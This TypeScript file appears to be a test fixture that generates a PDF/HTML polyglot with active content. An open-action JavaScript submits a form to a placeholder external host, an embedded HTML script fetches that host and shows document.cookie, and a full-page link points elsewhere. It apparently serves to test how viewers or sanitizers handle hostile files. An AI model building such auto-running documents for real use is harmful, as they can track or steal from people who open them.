import { ELSEWHERE, RAN } from "./hostile-files.ts";
import { pdfOf } from "./pdf.ts";

const CODE = `console.println("${RAN}");app.alert("${RAN}");this.submitForm("${ELSEWHERE}/told")`;
const MARKUP = `<html><script>console.log("${RAN}");fetch("${ELSEWHERE}/told");alert(document.cookie)</script></html>`;

/** What is drawn on each page. */
export const PDF_LINES = ["The first page", "The second page"] as const;

/** A PDF of two pages that is HTML as well, runs a script when it is opened, and whose first page is a link elsewhere. */
export function activePdf(): Uint8Array<ArrayBuffer> {
	const pages = PDF_LINES.flatMap((line, index) => {
		const text = `BT /F1 24 Tf 60 700 Td (${line}) Tj ET`;
		const at = 4 + index * 2;
		return [
			`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${at + 1} 0 R /Resources << /Font << /F1 3 0 R >> >>
/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${ELSEWHERE}/told) >> >>]
/AA << /O << /S /JavaScript /JS (${CODE}) >> >> >>`,
			`<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
		];
	});
	const objects = [
		`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${CODE}) >> >>`,
		"<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		...pages,
	];
	return pdfOf(objects, MARKUP);
}
